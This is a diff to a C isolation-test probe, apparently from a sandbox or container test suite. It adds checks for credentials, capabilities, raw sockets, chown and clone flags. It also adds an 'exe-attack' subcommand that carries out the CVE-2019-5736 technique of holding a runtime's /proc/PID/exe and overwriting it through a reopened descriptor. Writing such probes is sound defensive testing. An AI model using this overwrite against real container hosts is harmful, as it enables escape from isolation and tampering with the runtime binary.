@@ -15,6 +15,19 @@
  *   probe tty                 isatty(0), ttyname(0), rows cols
  *   probe cwd                 getcwd()
  *   probe sigmask             blocked and ignored signal masks
+ *
+ * Isolation checks (iso_cmd):
+ *   probe status              Uid, Gid, Groups, Cap*, NoNewPrivs, Seccomp
+ *                             lines of /proc/self/status (for a setuid copy)
+ *   probe create PATH         open(O_CREAT|O_WRONLY) a file
+ *   probe chown PATH UID GID
+ *   probe raw-socket          socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)
+ *   probe personality HEX     personality(HEX)
+ *   probe clone HEX           raw clone(HEX|SIGCHLD); the child exits at once
+ *   probe exe-attack PID TRIGGER
+ *                             CVE-2019-5736: hold /proc/PID/exe with O_PATH,
+ *                             wait for the file TRIGGER, then reopen the
+ *                             held fd for writing and write to it
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -27,7 +40,9 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mount.h>
+#include <netinet/in.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
@@ -44,6 +59,8 @@ static const char *ename(int e)
 		{ ETXTBSY, "ETXTBSY" }, { EAGAIN, "EAGAIN" }, { ENOMEM, "ENOMEM" },
 		{ EBUSY, "EBUSY" }, { ENXIO, "ENXIO" }, { ENODEV, "ENODEV" },
 		{ ESRCH, "ESRCH" }, { EBADF, "EBADF" }, { ENOTTY, "ENOTTY" },
+		{ ENOSPC, "ENOSPC" }, { EFBIG, "EFBIG" }, { EMFILE, "EMFILE" },
+		{ EOPNOTSUPP, "EOPNOTSUPP" }, { EXDEV, "EXDEV" }, { ELOOP, "ELOOP" },
 	};
 
 	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
@@ -149,6 +166,79 @@ static int sigmasks(void)
 	return 0;
 }
 
+/* hold the exe of PID, then try to write through it once TRIGGER exists
+ * (by then the runtime that was PID should have exited) */
+static int exe_attack(const char *pid, const char *trigger)
+{
+	char path[64], fdpath[64];
+	int held, fd;
+
+	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+	held = open(path, O_PATH);
+	printf("open-path: %s\n", held < 0 ? ename(errno) : "ok");
+	if (held < 0)
+		return 0;
+	for (int i = 0; i < 600 && access(trigger, F_OK) < 0; i++)
+		usleep(100000);
+	snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", held);
+	fd = open(fdpath, O_WRONLY);
+	printf("reopen-write: %s\n", fd < 0 ? ename(errno) : "ok");
+	if (fd >= 0)
+		printf("write: %s\n", pwrite(fd, "OVERWRITTEN", 11, 0) == 11 ? "ok" : ename(errno));
+	return 0;
+}
+
+static int raw_clone(unsigned long flags)
+{
+	long pid = syscall(SYS_clone, flags | SIGCHLD, 0, NULL, NULL, 0);
+
+	if (pid == 0)
+		_exit(0);
+	if (pid > 0)
+		waitpid((pid_t)pid, NULL, 0);
+	return result(pid < 0 ? -1 : 0);
+}
+
+static int status_lines(void)
+{
+	static const char *const keys[] = {
+		"Uid:", "Gid:", "Groups:", "Cap", "NoNewPrivs:", "Seccomp:"};
+	char line[256];
+	FILE *f = fopen("/proc/self/status", "r");
+
+	while (f && fgets(line, sizeof(line), f))
+		for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++)
+			if (strncmp(line, keys[i], strlen(keys[i])) == 0)
+				fputs(line, stdout);
+	if (f)
+		fclose(f);
+	return 0;
+}
+
+/* the isolation suites' subcommands; 2 when cmd is not one of them */
+static int iso_cmd(const char *cmd, int argc, char **argv)
+{
+	if (strcmp(cmd, "status") == 0)
+		return status_lines();
+	if (strcmp(cmd, "raw-socket") == 0)
+		return result(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
+	if (argc < 3)
+		return 2;
+	if (strcmp(cmd, "create") == 0)
+		return result(open(argv[2], O_WRONLY | O_CREAT, 0644));
+	if (strcmp(cmd, "personality") == 0)
+		return result((int)syscall(SYS_personality, strtoul(argv[2], NULL, 16)));
+	if (strcmp(cmd, "clone") == 0)
+		return raw_clone(strtoul(argv[2], NULL, 16));
+	if (argc < 4)
+		return 2;
+	if (strcmp(cmd, "exe-attack") == 0)
+		return exe_attack(argv[2], argv[3]);
+	if (strcmp(cmd, "chown") == 0 && argc >= 5)
+		return result(chown(argv[2], (uid_t)atoi(argv[3]), (gid_t)atoi(argv[4])));
+	return 2;
+}
+
 static int with_path(const char *cmd, int argc, char **argv)
 {
 	char path[64];
@@ -211,9 +301,10 @@ int main(int argc, char **argv)
 		return sigmasks();
 	if (strcmp(cmd, "cwd") == 0)
 		return puts(getcwd(cwd, sizeof(cwd)) ? cwd : ename(errno)), 0;
-	if (with_path(cmd, argc, argv) != 2)
+	if (with_path(cmd, argc, argv) != 2 || iso_cmd(cmd, argc, argv) != 2)
 		return 0;
 	fprintf(stderr, "usage: probe fds|open|mknod|ptrace|mount|unshare-user|keyctl|bpf|"
-			"chroot|write-exe|readlink-exe|hog|forkbomb|burn|tty|cwd|sigmask ...\n");
+			"chroot|write-exe|readlink-exe|hog|forkbomb|burn|tty|cwd|sigmask|"
+			"status|create|chown|raw-socket|personality|clone|exe-attack ...\n");
 	return 2;
 }
